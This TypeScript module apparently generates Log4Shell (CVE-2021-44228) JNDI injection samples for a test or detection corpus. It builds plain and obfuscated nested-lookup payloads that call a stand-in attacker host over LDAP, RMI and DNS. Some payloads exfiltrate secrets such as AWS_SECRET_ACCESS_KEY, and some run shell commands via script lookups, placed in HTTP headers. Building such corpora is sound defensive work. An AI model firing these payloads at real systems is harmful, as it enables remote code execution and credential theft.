/** Look-ups that Log4j resolves inside a logged text (CVE-2021-44228), plain and taken apart by nested look-ups. */

import type { Random } from '../../../random.ts';
import type { Family } from '../../family.ts';
import { characters, integer, LOWER_CASE, maybe, oneOf, type Rule, text, weighted } from '../../grammar.ts';
import { evade } from '../../mutators/evade.ts';
import { attackerHost, privateIp, shellCommand, token } from '../lexicon.ts';
import { ANY_INPUT, familyOf } from '../places.ts';
import { anywhere } from '../surroundings.ts';

/** One letter as a nested look-up that gives it. */
function nested(letter: string, random: Random): string {
  const key = characters(LOWER_CASE, 1, 5)(random);
  return oneOf(
    `\${::-${letter}}`,
    `\${lower:${letter}}`,
    `\${upper:${letter}}`,
    `\${env:${key.toUpperCase()}:-${letter}}`,
    `\${env:${key}:${key}:-${letter}}`,
    `\${sys:${key}:-${letter}}`,
    `\${date:'${letter}'}`,
    `\${${key}:${key}:-${letter}}`,
    `\${lower:\${lower:${letter}}}`,
    `\${:-${letter}}`,
    `\${base64:${btoa(letter)}}`,
    `\${env:NaN:-${letter}}`,
    `\${${key}:-${letter}}`,
  )(random);
}

/** The word with some or all of its letters taken apart; `share` is how many. */
const takenApart =
  (word: string, share: number): Rule =>
  (random) =>
    [...word].map((letter) => (random() < share ? nested(letter, random) : letter)).join('');

const scheme: Rule = weighted(
  [6, 'ldap'],
  [3, 'rmi'],
  [3, 'dns'],
  [2, 'ldaps'],
  [1, 'iiop'],
  [1, 'corba'],
  [1, 'nis'],
  [1, 'nds'],
  [1, 'http'],
);
const leak: Rule = text`\${${oneOf('env', 'sys')}:${oneOf('AWS_SECRET_ACCESS_KEY', 'USER', 'HOSTNAME', 'java.version', 'os.name', 'user.name', 'PATH', 'DB_PASSWORD')}}`;
const host: Rule = weighted(
  [6, attackerHost],
  [2, text`${oneOf(leak, '${hostName}', '${java:version}', '${java:os}')}.${attackerHost}`],
  [1, text`127.0.0.1#${attackerHost}`],
  [1, privateIp],
  [1, 'localhost'],
);
const target: Rule = text`${oneOf('://', '://', ':', ':/', ':////')}${host}${maybe(text`:${oneOf('1389', '1099', '389', '53', integer(80, 65535))}`, 0.5)}/${oneOf('a', 'Exploit', 'Basic/Command/Base64/', 'o=tomcat', 'x', token, '#Exploit', text`TomcatBypass/Command/${shellCommand}`, text`Basic/Command/Base64/${characters('ABCDEFabcdef0123456789', 12, 40)}==`, '')}`;

const plain: Rule = text`\${${oneOf('jndi', 'jndi', 'JNDI', 'jNdI')}:${scheme}${target}}`;
const obfuscated: Rule = oneOf(
  text`\${${takenApart('jndi', 1)}:${scheme}${target}}`,
  text`\${${takenApart('jndi', 0.5)}:${scheme}${target}}`,
  text`\${j${takenApart('ndi', 0.7)}:${takenApart('ldap', 0.6)}${target}}`,
  text`\${${takenApart('jndi:', 0.8)}${takenApart('rmi', 0.7)}${target}}`,
  text`\${\${::-${takenApart('jndi', 0)}}:${scheme}${target}}`,
  text`\${${takenApart('jndi', 0.6)}${oneOf('${::-:}', '${env:x:-:}', '${sys:x:-:}')}${takenApart('ldap', 0.5)}${target}}`,
  text`\${jndi:\${lower:l}\${lower:d}a\${lower:p}${target}}`,
  text`\${\${lower:jndi}:\${lower:${scheme}}${target}}`,
  text`\${\${upper:jndi}:\${upper:${scheme}}${target}}`,
  text`\${jn\${env::-}di:${scheme}${target}}`,
  text`\${jn\${date:}d\${date:''}i:${scheme}${target}}`,
  text`\${j${oneOf('', '')}\${k8s:k5:-ND}\${sd:k5:-${oneOf('i', 'I')}}:${scheme}${target}}`,
  text`\${jnd${oneOf('\\u0131', 'ı', '\\u0069')}:${scheme}${target}}`,
);

const lookups: Rule = oneOf(
  text`\${${oneOf('env', 'sys', 'java', 'ctx', 'main', 'bundle')}:${oneOf('AWS_SECRET_ACCESS_KEY', 'java.version', 'user.home', 'application:spring.datasource.password', 'os', 'loginId')}}`,
  text`\${script:${oneOf('javascript', 'js', 'groovy')}:java.lang.Runtime.getRuntime().exec('${shellCommand}')}`,
  text`\${script:javascript:${integer(1, 999)} + ${integer(1, 999)}}`,
  text`\${${oneOf('dns:address|', 'url:UTF-8:http://', 'dns:canonicalName|')}${attackerHost}}`,
  text`\${\${::-\${::-$\${::-j}}}}`,
  text`\${\${\${::-$}\${::-{}j}}`,
);

const headed = (part: Rule): Rule =>
  weighted(
    [8, anywhere(part)],
    [
      1,
      text`${oneOf('User-Agent', 'X-Api-Version', 'Referer', 'X-Forwarded-For', 'Cookie', 'Authorization', 'Accept-Language', 'X-Client-IP', 'From')}: ${part}`,
    ],
    [1, text`Mozilla/5.0 ${part}`],
    [0.5, text`/?x=${part}`],
    [0.5, text`t('${part}')`],
  );

/** Log4Shell and its relatives. */
export const JNDI_FAMILIES: readonly Family[] = [
  familyOf('code-injection', 'jndi-plain', headed(plain), ANY_INPUT, 0.8),
  familyOf('code-injection', 'jndi-obfuscated', headed(obfuscated), ANY_INPUT, 1.2),
  familyOf('code-injection', 'log-lookup', evade(lookups), ANY_INPUT, 0.5),
];
